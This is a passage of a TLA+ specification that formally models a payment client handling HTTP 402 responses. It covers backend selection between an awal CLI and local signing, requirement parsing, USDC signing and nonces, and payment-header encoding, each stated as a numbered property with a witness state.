                   ticks, nonces, probeLog, check, pay, parse, sign,
                   tool, keyRuns>>

NextFormat == FormatCall

SpecFormat == InitFormat /\ [][NextFormat]_vars

-----------------------------------------------------------------------------
(* The specification of concurrent fetchWithPayment calls that sign locally *)

Fetchers == {"p1", "p2"}

InitSigning ==
    /\ env = EnvSigning
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Fetchers |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

\* The url the tool handlers call
ExecuteUrl == "https://nullpath.com/api/v1/execute"

\* The calls that reach handleDirectPayment and sign: the tool handlers'
\* request, the probe finds no awal, and the 402 carries requirements that
\* pass every check.
NextSigning ==
    \/ \E p \in Fetchers : StartCached(p) /\ call'[p].url = ExecuteUrl
    \/ \E p \in Fetchers : StartProbe(p) /\ call'[p].url = ExecuteUrl
    \/ \E p \in Fetchers : ProbeReturn(p) /\ ~call'[p].awalStatus.available
    \/ \E p \in Fetchers : First402Direct(p) /\ call'[p].pc = "signing"
    \/ \E p \in Fetchers : SignReturn(p)
    \/ \E p \in Fetchers : RetryResponse(p) /\ call'[p].retryBody = ""

SpecSigning == InitSigning /\ [][NextSigning]_vars

-----------------------------------------------------------------------------
(* The specification of the paid tools: the MCP server answers tool calls *)
(* one after another, each running fetchWithPayment                       *)

NextTool ==
    \/ \E p \in Procs : ToolCall(p)
    \/ \E p \in Procs : ProbeReturn(p)
    \/ \E p \in Procs : FirstNot402(p)
    \/ \E p \in Procs : First402None(p)
    \/ \E p \in Procs : First402Awal(p)
    \/ \E p \in Procs : First402Direct(p)
    \/ \E p \in Procs : SignReturn(p)
    \/ \E p \in Procs : RetryResponse(p)
    \/ \E p \in Procs : AwalPayReturn(p)
    \/ \E p \in Procs : ToolReturn(p)

SpecTool == Init /\ [][NextTool]_vars

-----------------------------------------------------------------------------
(* The specification of two runs that differ in the key *)

InitKeyRuns ==
    /\ env = [useAwal |-> "", walletKey |-> ""]
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ \E k1 \in KeyRunTexts, k2 \in KeyRunTexts, m \in ScalarMessages :
         keyRuns = [KeyRunsIdle EXCEPT !.keys = <<k1, k2>>, !.scalarMessage = m]

NextKeyRuns == \E i \in 1..2 : KeyRun(i)

SpecKeyRuns == InitKeyRuns /\ [][NextKeyRuns]_vars

-----------------------------------------------------------------------------
(* Properties *)

\* Whether an invocation spawned the pay command (npx awal@latest x402 pay)
IsPayExec(e) == Len(e.args) >= 3 /\ e.args[2] = "x402" /\ e.args[3] = "pay"

PayExecs(c) == {i \in 1..Len(c.execs) : IsPayExec(c.execs[i])}

\* The call has its backend resolved (getPaymentConfig has returned)
Resolved(c) == c.pc \notin {"idle", "probing"}

Finished(c) == c.pc \in {"done", "failed"}

\* C1: a fetchWithPayment call on the local-signing backend issues at most
\* two requests, the initial one and one retry; a retry answered 402 ends
\* the call with the payment-rejected error, and no further request follows.
C1_AtMostOneRetry ==
    \A p \in Procs :
        LET c == call[p] IN
        (Resolved(c) /\ c.cfg = "direct") =>
            /\ Len(c.reqs) <= 2
            /\ Len(c.resps) <= Len(c.reqs)
            /\ (Len(c.resps) = 2 => Finished(c))
            /\ (Len(c.resps) = 2 /\ c.resps[2] = 402 =>
                   /\ c.pc = "failed"
                   /\ c.result.kind = "error"
                   /\ c.result.error = "PaymentRequiredError"
                   /\ c.result.detail = "rejected"
                   /\ Len(c.reqs) = 2)

C1_Witness ==
    \E p \in Procs :
        /\ call[p].cfg = "direct"
        /\ call[p].resps = <<402, 402>>
        /\ Len(call[p].reqs) = 2
        /\ call[p].pc = "failed"
        /\ call[p].result.detail = "rejected"

\* C2: a first response that is not a 402 is returned as it is, whatever
\* the backend: nothing is parsed, no wallet is built, nothing is signed,
\* the pay command is not spawned and no second request is issued.
C2_Not402PassThrough ==
    \A p \in Procs :
        LET c == call[p] IN
        (Len(c.resps) >= 1 /\ c.resps[1] # 402) =>
            /\ c.pc = "done"
            /\ c.result = Returned(c.resps[1], "first")
            /\ c.resps = <<c.resps[1]>>
            /\ Len(c.reqs) = 1
            /\ c.parses = 0 /\ c.wallets = 0 /\ c.signs = 0 /\ c.nonce = ""
            /\ PayExecs(c) = {}

C2_Witness ==
    \E p \in Procs :
        /\ call[p].cfg = "none"
        /\ call[p].resps = <<404>>
        /\ call[p].result = Returned(404, "first")

C4_ResolveOnlyAfter402 ==
    \A p \in Procs :
        LET c == call[p] IN
        /\ (c.cfg # "" \/ Len(c.execs) > 0) => (Len(c.resps) >= 1 /\ c.resps[1] = 402)
        /\ (Len(c.resps) >= 1 /\ c.resps[1] = 200) => (Len(c.execs) = 0 /\ c.signs = 0)

\* C5: a 402 with the backend resolved to 'none' ends the call at once with
\* WalletNotConfiguredError: nothing parsed, no wallet, no signature, no
\* pay command, no further request.
C5_NoneFailsImmediately ==
    \A p \in Procs :
        LET c == call[p] IN
        (Resolved(c) /\ c.cfg = "none" /\ Len(c.resps) >= 1 /\ c.resps[1] = 402) =>
            /\ c.pc = "failed"
            /\ c.result.kind = "error"
            /\ c.result.error = "WalletNotConfiguredError"
            /\ c.parses = 0 /\ c.wallets = 0 /\ c.signs = 0 /\ c.nonce = ""
            /\ PayExecs(c) = {}
            /\ Len(c.reqs) = 1 /\ Len(c.resps) = 1

C5_Witness ==
    \E p \in Procs :
        /\ call[p].cfg = "none"
        /\ call[p].resps = <<402>>
        /\ call[p].result.error = "WalletNotConfiguredError"
        /\ env.walletKey = ""

\* C6: with NULLPATH_USE_AWAL 'true' or '1' and a status that is not both
\* available and authenticated, the backend is 'none', never 'direct', even
\* with a valid key; a 402 then leads to no signature.
C6_ForcedNeverDirect ==
    \A p \in Procs :
        LET c == call[p] IN
        (Resolved(c) /\ env.useAwal \in {"true", "1"}
           /\ ~(c.awalStatus.available /\ c.awalStatus.authenticated)) =>
            /\ c.cfg = "none"
            /\ c.signs = 0 /\ c.nonce = "" /\ c.wallets = 0
            /\ Len(c.reqs) = 1

C6_Witness ==
    \E p \in Procs :
        /\ env.useAwal = "1" /\ env.walletKey = "valid"
        /\ call[p].awalStatus.available /\ ~call[p].awalStatus.authenticated
        /\ call[p].cfg = "none"
        /\ call[p].resps = <<402>>
        /\ call[p].pc = "failed"

\* C7: the backend is 'awal' exactly when the status is available and
\* authenticated; otherwise 'none' when forced; otherwise 'direct' exactly
\* when a key is configured; otherwise 'none'.  Forced means
\* NULLPATH_USE_AWAL is 'true' or '1'.
C7_DecisionFunction ==
    \A p \in Procs :
        LET c      == call[p]
            usable == c.awalStatus.available /\ c.awalStatus.authenticated
            forced == env.useAwal = "true" \/ env.useAwal = "1"
            key    == env.walletKey # ""
        IN  Resolved(c) =>
              /\ c.awalStatus.set
              /\ (c.cfg = "awal" <=> usable)
              /\ (c.cfg = "direct" <=> (~usable /\ ~forced /\ key))
              /\ (c.cfg = "none" <=> (~usable /\ (forced \/ ~key)))

C7_Witness ==
    /\ env.useAwal = "false" /\ env.walletKey = "malformed"
    /\ \E p \in Procs :
        /\ call[p].cfg = "direct"
        /\ ~call[p].awalStatus.available
        /\ call[p].pc = "failed"

\* A probe has completed less than CACHE_TTL_MS ago and clearAwalCache has
\* not run since
FreshByHistory ==
    /\ probeLog.doneAt >= 0
    /\ ~probeLog.cleared
    /\ now - probeLog.doneAt < 60000

CallStarts(q) == check'[q].n = check[q].n + 1

C9_NeverThrows ==
    \A q \in Checkers :
        LET k == check[q] IN
        /\ k.pc # "failed"
        /\ (k.pc = "done" /\ ~k.fromCache) =>
              /\ k.status.set
              /\ k.out \in ProbeFailures =>
                    /\ ~k.status.available
                    /\ ~k.status.authenticated
                    /\ k.status.error # ""
                    /\ k.configured = (env.useAwal = "" /\ env.walletKey # "")

C9_Witness ==
    /\ check["c1"].pc = "done" /\ check["c1"].out = "timeout"
    /\ check["c1"].status.error = "awal CLI timeout"
    /\ check["c2"].pc = "done" /\ check["c2"].out = "bad_json"
    /\ ~check["c2"].fromCache

IsTrimOf(t, s) ==
    \E i \in 1..(Len(s) + 1) : \E j \in 0..Len(s) :
        /\ t = SubSeq(s, i, j)
        /\ \A k \in 1..Len(s) : (k < i \/ k > j) => s[k] \in Blank
        /\ t # <<>> => (t[1] \notin Blank /\ t[Len(t)] \notin Blank)

AllBlank(s) == \A k \in 1..Len(s) : s[k] \in Blank

\* C11: when the pay command exits normally, output that is empty or blank
\* makes awalPay return success false, without throwing, with the trimmed
\* standard error as the error, or 'Empty response from awal' when nothing
\* is left of standard error after trimming; output that is not blank and not
\* JSON makes it throw AwalPaymentError with the first 100 characters of the
\* output at most.
C11_OutputClassified ==
    (pay.pc = "done" /\ pay.out.exit = "ok") =>
        LET so == pay.out.stdout
            se == pay.out.stderr
            r  == pay.result
        IN  /\ AllBlank(so.text) =>
                 /\ ~r.threw /\ ~r.success
                 /\ IF AllBlank(se.text)
                    THEN r.error = "Empty response from awal" /\ r.errorText = <<>>
                    ELSE r.error = "" /\ IsTrimOf(r.errorText, se.text)
            /\ (~AllBlank(so.text) /\ so.doc.kind = "invalid") =>
                 /\ r.threw
                 /\ r.error = "Invalid JSON response from awal: "
                 /\ Len(r.errorText) <= 100
                 /\ Len(r.errorText) = 100 \/ Len(r.errorText) = Len(so.text)
                 /\ \A k \in 1..Len(r.errorText) : r.errorText[k] = so.text[k]

C11_Witness ==
    /\ pay.pc = "done" /\ pay.out.exit = "ok"
    /\ Len(pay.out.stdout.text) = 121
    /\ pay.result.threw
    /\ Len(pay.result.errorText) = 100
    /\ pay.result.errorText[1] = " "

\* What the claims call a numeric status code
NumericStatus(doc) == doc.statusCode.t = "num"

\* C12 (as claimed): a payload that carries an error member gives success
\* false with that message and the numeric status code if any; any other
\* payload gives success true, body from body, else data, else the payload,
\* statusCode 200 by default, the reference from payment.transactionHash,
\* else txHash.
C12_AsClaimed ==
    (pay.pc = "done" /\ pay.out.exit = "ok" /\ pay.out.stdout.doc.kind = "object") =>
        LET d == pay.out.stdout.doc
            r == pay.result
        IN  IF d.error # Undefined
            THEN ~r.threw /\ ~r.success /\ r.error = d.error
            ELSE ~r.threw /\ r.success

\* C12 (amended): a payload whose error member is truthy (present, not null,
\* not empty) gives success false with that message and the status code when
\* it is a number; any other object gives success true, body from the first
\* truthy of body and data, else the whole payload, statusCode the numeric
\* status code, else 200, and the reference payment.transactionHash when it
\* is a string, else txHash when it is a string; a payload of null makes
\* awalPay throw AwalPaymentError.
C12_PayloadClassified ==
    (pay.pc = "done" /\ pay.out.exit = "ok"
       /\ pay.out.stdout.doc.kind \in {"object", "null"}) =>
        LET d == pay.out.stdout.doc
            r == pay.result
        IN  IF d.kind = "null"
            THEN r.threw /\ r.cause
            ELSE IF d.error \notin {Undefined, Null, ""}
            THEN /\ ~r.threw /\ ~r.success
                 /\ r.error = d.error
                 /\ (NumericStatus(d) => r.statusCode = d.statusCode.v)
                 /\ (~NumericStatus(d) => r.statusCode = NoStatusCode)
            ELSE /\ ~r.threw /\ r.success
                 /\ (d.body \notin {Undefined, Null, ""} => r.body = d.body)
                 /\ (d.body \in {Undefined, Null, ""} /\ d.data \notin {Undefined, Null, ""}
                       => r.body = d.data)
                 /\ (d.body \in {Undefined, Null, ""} /\ d.data \in {Undefined, Null, ""}
                       => r.body = WholePayload)
                 /\ (NumericStatus(d) => r.statusCode = d.statusCode.v)
                 /\ (~NumericStatus(d) => r.statusCode = 200)
                 /\ (d.payTx # Undefined => r.transactionHash = d.payTx)
                 /\ (d.payTx = Undefined => r.transactionHash = d.txHash)

C12_Witness ==
    /\ pay.pc = "done" /\ pay.out.exit = "ok"
    /\ pay.out.stdout.doc.kind = "object"
    /\ pay.out.stdout.doc.error = Null
    /\ pay.out.stdout.doc.body = "" /\ pay.out.stdout.doc.data = "DATA"
    /\ pay.out.stdout.doc.payTx = Undefined /\ pay.out.stdout.doc.txHash = "0xTX2"
    /\ pay.result.success
    /\ pay.result.body = "DATA"
    /\ pay.result.transactionHash = "0xTX2"

\* C13: when the pay command fails, awalPay returns success false with the
\* error member, else the message member, of standard error parsed as JSON
\* (the text as it is when the value has neither); with the trimmed text
\* when standard error is not JSON or is null (the message of the failure when only
\* blanks are left); it throws AwalPaymentError, the failure attached as
\* cause, exactly when standard error holds no text at all.
C13_ExecFailureClassified ==
    (pay.pc = "done" /\ pay.out.exit = "fail") =>
        LET se == pay.out.stderr
            e  == se.doc
            r  == pay.result
        IN  /\ r.threw <=> se.text = <<>>
            /\ r.threw => (r.cause /\ r.error = "awal payment failed: " \o ExecMessage)
            /\ ~r.success
            /\ (se.text # <<>> /\ e.kind \in {"object", "primitive"}) =>
                 /\ (e.error # Undefined => r.error = e.error)
                 /\ (e.error = Undefined /\ e.message # Undefined => r.error = e.message)
                 /\ (e.error = Undefined /\ e.message = Undefined =>
                        r.error = "" /\ r.errorText = se.text)
            /\ (se.text # <<>> /\ e.kind \notin {"object", "primitive"}) =>
                 IF AllBlank(se.text)
                 THEN r.error = ExecMessage /\ r.errorText = <<>>
                 ELSE r.error = "" /\ IsTrimOf(r.errorText, se.text)
                      /\ r.errorText # <<>>

C13_Witness ==
    /\ pay.pc = "done" /\ pay.out.exit = "fail"
    /\ pay.out.stderr.doc.kind = "object"
    /\ pay.out.stderr.doc.error = Undefined
    /\ pay.result.error = "failed"
    /\ ~pay.result.threw

\* The argument vector a holds flag followed by value
HasPair(a, flag, value) ==
    \E i \in 1..(Len(a) - 1) : a[i] = flag /\ a[i + 1] = value

\* C14 (as claimed): on a 402 with the awal backend the url, method, body
\* and headers of the call go to awalPay; nothing is parsed, no wallet is
\* built, nothing is signed and no second request is issued; a result with
\* success true is returned as a Response with awal's status code, 200 when
\* there is none, marked X-Payment-Method: awal; a result with success false
\* raises AwalPaymentError.
C14_AwalHandOff ==
    \A p \in Procs :
        LET c == call[p] IN
        (Resolved(c) /\ c.cfg = "awal" /\ Len(c.resps) >= 1 /\ c.resps[1] = 402) =>
            /\ Cardinality(PayExecs(c)) = 1
            /\ \A i \in PayExecs(c) :
                 LET a == c.execs[i].args IN
                 /\ a[4] = c.url
                 /\ HasPair(a, "-X", c.options.method)
                 /\ HasPair(a, "-d", c.options.body)
                 /\ \A k \in 1..Len(c.options.headers) :
                      HasPair(a, "-H", c.options.headers[k][1] \o ": "
                                        \o c.options.headers[k][2])
            /\ c.parses = 0 /\ c.wallets = 0 /\ c.signs = 0
            /\ Len(c.reqs) = 1 /\ Len(c.resps) = 1
            /\ Finished(c) =>
                 IF ~c.paid.threw /\ c.paid.success
                 THEN /\ c.result.kind = "response"
                      /\ c.result.via = "awal"
                      /\ c.result.status = IF c.paid.statusCode = NoStatusCode THEN 200
                                           ELSE c.paid.statusCode
                 ELSE /\ c.result.kind = "error"
                      /\ c.result.error = "AwalPaymentError"

\* C15: on the local-signing path every retry response is classified: a
\* 402 raises PaymentRequiredError with the body text, or 'no details', in
\* its message and the parsed requirements attached; any other status
\* outside 200..299 raises an Error that names the status; a status in
\* 200..299 returns the retry response.
C15_RetryClassified ==
    \A p \in Procs :
        LET c == call[p] IN
        (c.cfg = "direct" /\ Len(c.resps) = 2) =>
            LET status == c.resps[2] IN
            /\ Finished(c)
            /\ status = 402 =>
                 /\ c.result.kind = "error"
                 /\ c.result.error = "PaymentRequiredError"
                 /\ c.result.detail = "rejected"
                 /\ c.result.text = (IF c.retryBody = "" THEN "no details" ELSE c.retryBody)
                 /\ c.result.requirements = c.requirements
                 /\ c.requirements.recipient \in {c.payload.recipient, c.payload.payee}
                 /\ c.requirements.recipient # ""
            /\ (status # 402 /\ (status < 200 \/ status > 299)) =>
                 /\ c.result.kind = "error"
                 /\ c.result.error = "Error"
                 /\ c.result.detail = "request_failed"
                 /\ c.result.status = status
                 /\ c.result.text = c.retryBody
            /\ (status >= 200 /\ status <= 299) =>
                 c.result = Returned(status, "retry")

C15_Witness ==
    \E p \in Procs :
        /\ call[p].cfg = "direct"
        /\ call[p].resps = <<402, 500>>
        /\ call[p].retryBody = "insufficient funds"
        /\ call[p].result.error = "Error"
        /\ call[p].result.status = 500

\* A payment was attempted: the retry carrying X-PAYMENT was answered, or
\* awalPay returned a result of the paid call
PaidStatus(c) ==
    IF c.cfg = "direct" /\ Len(c.resps) = 2 THEN c.resps[2]
    ELSE IF c.cfg = "awal" /\ Finished(c) /\ ~c.paid.threw
              /\ c.paid.statusCode # NoStatusCode
    THEN c.paid.statusCode
    ELSE 0

\* C16 (as claimed): on both backends, a paid call that ends with 402
\* raises the payment-rejected error, one that ends with another status
\* outside 200..299 raises a request-failure error, and no response with
\* such a status is returned once a payment was attempted.
C16_PaidOutcomeClassified ==
    \A p \in Procs :
        LET c == call[p] IN
        (Finished(c) /\ PaidStatus(c) # 0) =>
            /\ PaidStatus(c) = 402 =>
                 (c.result.kind = "error" /\ c.result.error = "PaymentRequiredError")
            /\ ~Ok(PaidStatus(c)) => c.result.kind = "error"
            /\ c.result.kind = "response" => Ok(c.result.status)

\* The 402 response carries a header that decodes to JSON
Decoded(h) == h.header \notin {"none", "empty"} /\ h.json

\* C17 (as claimed): a 402 payload whose validBefore is at or before the
\* current time, 0 and negative values included, makes parsePaymentRequired
\* raise the expired error; no wallet is built, nothing is signed and no
\* retry is issued.  (StartS is never after the current time.)
C17_ExpiredNeverSigned ==
    \A p \in Procs :
        LET c == call[p] IN
        (c.cfg = "direct" /\ c.parses = 1 /\ Decoded(c.payload)
           /\ c.payload.validBefore.t # "absent"
           /\ c.payload.validBefore.v <= StartS) =>
            /\ c.pc = "failed"
            /\ c.result.error = "PaymentRequiredError"
            /\ c.result.detail = "expired"
            /\ c.wallets = 0 /\ c.signs = 0 /\ Len(c.reqs) = 1

\* recipient and payee are both missing, or amount and maxAmountRequired
MissingFields(h) ==
    \/ (h.recipient = "" /\ h.payee = "")
    \/ (h.amount.t = "absent" /\ h.maxAmountRequired.t = "absent")

\* C18 (as claimed): parsePaymentRequired checks the decoding first, then
\* the presence of recipient and amount, then expiry: a payload without
\* recipient or amount is reported as malformed whatever its validBefore,
\* and expiry is reported only for payloads that have both.
C18_ValidationOrder ==
    (parse.pc = "done" /\ parse.response.status = 402
       /\ parse.response.h.header \notin {"none", "empty"}) =>
        LET h == parse.response.h
            r == parse.result
        IN  /\ ~h.json => r.error = "malformed"
            /\ (h.json /\ MissingFields(h)) => r.error = "missing_fields"
            /\ r.error = "expired" => (h.json /\ ~MissingFields(h))

\* C19 (as claimed): for a payload that parses, the amount of the
\* requirements is the integer written in the payload, digit for digit,
\* whether it is written as a string or as a JSON number, above 2^53 too.
C19_AmountExact ==
    (parse.pc = "done" /\ parse.result.ok) =>
        LET h == parse.response.h
            a == IF Truthy(h.amount) THEN h.amount ELSE h.maxAmountRequired
        IN  parse.result.req.amount = Big(a.h, a.v)

\* First of the members that is a non-empty string, else the default
FirstText(a, b, default) == IF a # "" THEN a ELSE IF b # "" THEN b ELSE default

\* C20: parsePaymentRequired returns null exactly when the status is not
\* 402; a 402 without a requirement header raises PaymentRequiredError;
\* requirements that are returned take recipient from recipient, else payee,
\* amount from amount, else maxAmountRequired, asset from asset, else
\* usdcAddress, else the Base USDC address, network from network, else
\* chainId, else 8453, validAfter 0 and validBefore now + 300 when not
\* given; the call changes nothing but its own result.
C20_ParseContract ==
    /\ [](parse.pc = "done" =>
            LET h == parse.response.h
                r == parse.result
                q == parse.result.req
            IN  /\ r.null <=> parse.response.status # 402
                /\ (parse.response.status = 402 /\ h.header \in {"none", "empty"}) =>
                     (~r.ok /\ r.error = "header_missing")
                /\ r.ok =>
                     /\ Decoded(h)
                     /\ q.recipient = FirstText(h.recipient, h.payee, "")
                     /\ q.recipient # ""
                     /\ (Truthy(h.amount) /\ h.amount.h = 0) =>
                          q.amount = Big(0, h.amount.v)
                     /\ (Truthy(h.amount) /\ h.amount.h > 0) =>
                          q.amount.h >= h.amount.h
                     /\ ~Truthy(h.amount) =>
                          q.amount = Big(0, h.maxAmountRequired.v)
                     /\ q.asset = FirstText(h.asset, h.usdcAddress, USDC_ADDRESS_BASE)
                     /\ q.network = (IF h.network.t # "absent" THEN h.network.v
                                     ELSE IF h.chainId.t # "absent" THEN h.chainId.v
                                     ELSE 8453)
                     /\ q.validAfter = (IF h.validAfter.t # "absent" THEN h.validAfter.v
                                        ELSE 0)
                     /\ q.validBefore = (IF h.validBefore.t = "absent"
                                            \/ h.validBefore = JNum(0)
                                         THEN parse.nowS + 300 ELSE h.validBefore.v))
    /\ [][parse' # parse =>
            UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                        ticks, nonces, probeLog, check, pay, sign, fmt, tool,
                   keyRuns>>]_vars

C20_Witness ==
    /\ parse.pc = "done"
    /\ parse.response.status = 402
    /\ parse.response.h.recipient = "" /\ parse.response.h.payee = "0xPayee"
    /\ parse.response.h.amount = JAbsent
    /\ parse.response.h.asset = "" /\ parse.response.h.usdcAddress = ""
    /\ parse.response.h.network = JAbsent /\ parse.response.h.chainId = JStr(84532)
    /\ parse.response.h.validBefore = JAbsent
    /\ parse.nowS = StartS + 30
    /\ parse.result.ok
    /\ parse.result.req.recipient = "0xPayee"
    /\ parse.result.req.amount = Big(0, 250000)
    /\ parse.result.req.asset = USDC_ADDRESS_BASE
    /\ parse.result.req.network = 84532
    /\ parse.result.req.validBefore = StartS + 330

\* C21: on the direct path, requirements whose network is not 8453 or whose
\* asset differs, letter case aside, from the USDC address on Base end the
\* call with PaymentRequiredError for the mismatch: signTypedData is not
\* called, no nonce is drawn, and the initial request stays the only one.
C21_MismatchBeforeSigning ==
    \A p \in Procs :
      LET c == call[p] IN
      (/\ c.parses = 1
       /\ c.wallets = 1
       /\ createWallet(env).ok
       /\ \/ c.requirements.network # 8453
          \/ AddrLower(c.requirements.asset)
               # "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913")
      => /\ c.pc = "failed"
         /\ c.result = Thrown("PaymentRequiredError", "mismatch", 402)
         /\ c.signs = 0
         /\ c.nonce = ""
         /\ Len(c.reqs) = 1

\* A call refused for its asset alone, the network being 8453
C21_Witness ==
    \E p \in Procs :
      /\ call[p].result.detail = "mismatch"
      /\ call[p].requirements.network = 8453
      /\ call[p].requirements.asset = "0xOtherToken"
      /\ call[p].signs = 0

\* signPayment over all wallets, matching requirements and signer outcomes:
\* what signTransferAuthorization throws leaves signPayment as
\* PaymentSigningError with that error as cause and nothing signed; an
\* authorization comes back only for a 132-character signature.
SignPaymentWraps ==
    \A wallet \in SignWallets, req \in SignRequirements, out \in SignerOutcomes :
      LET r == signPayment(wallet, req, "0xnonce1", out)
          matching == /\ req.network = 8453
                      /\ AddrLower(req.asset) = "0x833589fcd6edb6e08f4c7c32d4f71b54bda02913"
          fromOk == wallet.account \in {"0xWALLET", "0xwallet"}
      IN  matching =>
            /\ r.ok <=> (fromOk /\ out.kind = "returns" /\ Len(out.signature) = 132)
            /\ r.ok => /\ r.signed.signature = out.signature
                       /\ Len(r.signed.r) = 66 /\ Len(r.signed.s) = 66
                       /\ r.signed.v \in {27, 28}
            /\ ~r.ok => /\ r.error.class = "PaymentSigningError"
                        /\ r.cause.class = "Error"
                        /\ r.cause.message = r.error.message
                        /\ r.signed = NoSigned
            /\ (fromOk /\ out.kind = "throws") => r.cause = out.error
            /\ (wallet.account = "0xOTHER") => /\ r.cause.message = "from_mismatch"
                                               /\ r.signerCalls = 0
            /\ (fromOk /\ out.kind = "returns" /\ Len(out.signature) # 132)
                 => r.cause.message = "signature_length"

\* C22: whatever fails in the signing step (the signer throws, the from
\* address is not the account's, the signature is not 132 characters long)
\* leaves signPayment as PaymentSigningError with the original error as
\* cause; such a signature is not taken apart into v, r, s; and a call of
\* fetchWithPayment that met the failure sent no retry.
C22_SigningFailureWrapped ==
    /\ SignPaymentWraps
    /\ \A p \in Procs :
         LET c == call[p]
             bad == \/ c.signOut.kind = "throws"
                    \/ c.signOut.kind = "returns" /\ Len(c.signOut.signature) # 132
         IN  /\ bad => /\ c.pc = "failed"
                       /\ c.result.kind = "error"
                       /\ c.result.error = "PaymentSigningError"
                       /\ c.result.cause.class = "Error"
                       /\ c.signOut.kind = "throws" => c.result.cause = c.signOut.error
                       /\ c.signed = NoSigned
                       /\ Len(c.reqs) = 1
             /\ Len(c.reqs) = 2 => /\ c.signOut.kind = "returns"
                                   /\ Len(c.signOut.signature) = 132

\* A call whose signer handed back 64 bytes, ended without a retry
C22_Witness ==
    \E p \in Procs :
      /\ call[p].signOut = SignerReturns(Sig64)
      /\ call[p].result.error = "PaymentSigningError"
      /\ call[p].result.cause = JsError("Error", "signature_length")
      /\ Len(call[p].reqs) = 1

\* A call enters the await of signTypedData in this step
StartsSigning(p) == call'[p].pc = "signing" /\ call[p].pc # "signing"

\* C23: with fetchWithPayment calls interleaved on the local-signing path,
\* every signing draws exactly one nonce of its own and builds one wallet
\* within its call, no two authorizations carry the same nonce, and the
\* X-PAYMENT header of a call's retry encodes the authorization signed in
\* that call.
C23_CallsIndependent ==
    /\ [](\A p \in Fetchers :
           LET c == call[p] IN
           /\ c.signs <= 1 /\ c.wallets <= 1
           /\ c.signs = 1 => c.wallets = 1 /\ c.nonce # ""
           /\ c.signed # NoSigned => c.signed.nonce = c.nonce
           /\ Len(c.reqs) = 2 =>
                /\ c.signed # NoSigned
                /\ c.reqs[2].headers["x-payment"] = HeaderText(c.signed)
           /\ \A q \in Fetchers \ {p} :
                /\ c.nonce # "" => call[q].nonce # c.nonce
                /\ (Len(c.reqs) = 2 /\ Len(call[q].reqs) = 2) =>
                      c.reqs[2].headers["x-payment"] # call[q].reqs[2].headers["x-payment"])
    /\ [][/\ \A p \in Fetchers :
               StartsSigning(p) => /\ nonces' = nonces + 1
                                   /\ call'[p].nonce \notin {call[q].nonce : q \in Fetchers}
                                   /\ call'[p].wallets = 1
          /\ (\A p \in Fetchers : ~StartsSigning(p)) => nonces' = nonces]_vars

\* Both callers have sent their retries, each signed in its own call
C23_Witness ==
    /\ Len(call["p1"].reqs) = 2
    /\ Len(call["p2"].reqs) = 2
    /\ call["p1"].signed.nonce # call["p2"].signed.nonce

IsDecimal(text) ==
    /\ Len(text) >= 1
    /\ \A i \in 1..Len(text) : text[i] \in {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
    /\ Len(text) > 1 => text[1] # "0"

\* C24: the token encodePaymentHeader makes of a signed authorization x is
\* base64 text; decoded and parsed it is an object of exactly the members
\* signature, from, to, value, validAfter, validBefore, nonce, the three
\* integers as the decimal texts of x's and the others as in x; encoding the
\* parsed object again gives the same token.
C24_HeaderRoundTrip ==
    sign.pc = "decoded" =>
      LET x == sign.result.signed
          d == sign.decoded
      IN  /\ Len(sign.token) % 4 = 0
          /\ \A i \in 1..Len(sign.token) :
               sign.token[i] = "=" \/ \E k \in 1..64 : Base64Alphabet[k] = sign.token[i]
          /\ Len(d) = 7
          /\ d[1] = <<Chars("signature"), x.signature>>
          /\ d[2] = <<Chars("from"), Chars(x.from)>>
          /\ d[3] = <<Chars("to"), Chars(x.to)>>
          /\ d[4][1] = Chars("value")
          /\ IsDecimal(d[4][2]) /\ FromDecimal(d[4][2]) = x.value
          /\ d[5][1] = Chars("validAfter")
          /\ IsDecimal(d[5][2]) /\ FromDecimal(d[5][2]) = Big(0, x.validAfter)
          /\ d[6][1] = Chars("validBefore")
          /\ IsDecimal(d[6][2]) /\ FromDecimal(d[6][2]) = Big(0, x.validBefore)
          /\ d[7] = <<Chars("nonce"), Chars(x.nonce)>>
          /\ sign.reencoded = sign.token

\* An authorization for 2^53 + 1 atomic units went through the round trip
C24_Witness ==
    /\ sign.pc = "decoded"
    /\ sign.result.signed.value = Big(TwoTo23, 1)
    /\ sign.decoded[4][2] = <<"9", "0", "0", "7", "1", "9", "9", "2", "5", "4", "7", "4", "0", "9", "9", "3">>
    /\ sign.reencoded = sign.token

\* The digits of an amount split six from the end: '$', the digits before
\* (0 when there are none), '.', the last six digits, zeros in front of an
\* amount of fewer digits
DollarText(atomic) ==
    LET digits == PadStart(ToDecimal(atomic), 7, "0")
        n      == Len(digits)
    IN  <<"$">> \o SubSeq(digits, 1, n - 6) \o <<".">> \o SubSeq(digits, n - 5, n)

\* C25 as stated: formatUsdcAmount(a) is '$', the digits of a div 10^6, a
\* '.', and a mod 10^6 in six digits, and no more: 1000 is $0.001000.
C25_AsClaimed ==
    fmt.pc = "done" => fmt.text = DollarText(fmt.atomic)

\* C25: for every non-negative amount a, formatUsdcAmount(a) is '$', the
\* decimal digits of a div 10^6, a '.', a mod 10^6 padded with zeros to six
\* digits, and then the text ' USDC'; the digits are exact above 2^53.
C25_FormatExact ==
    fmt.pc = "done" =>
      /\ fmt.text = DollarText(fmt.atomic) \o <<" ", "U", "S", "D", "C">>
      /\ fmt.atomic = Big(0, 1000) =>
           fmt.text = <<"$", "0", ".", "0", "0", "1", "0", "0", "0", " ", "U", "S", "D", "C">>
      /\ fmt.atomic = Big(0, 0) =>
           fmt.text = <<"$", "0", ".", "0", "0", "0", "0", "0", "0", " ", "U", "S", "D", "C">>
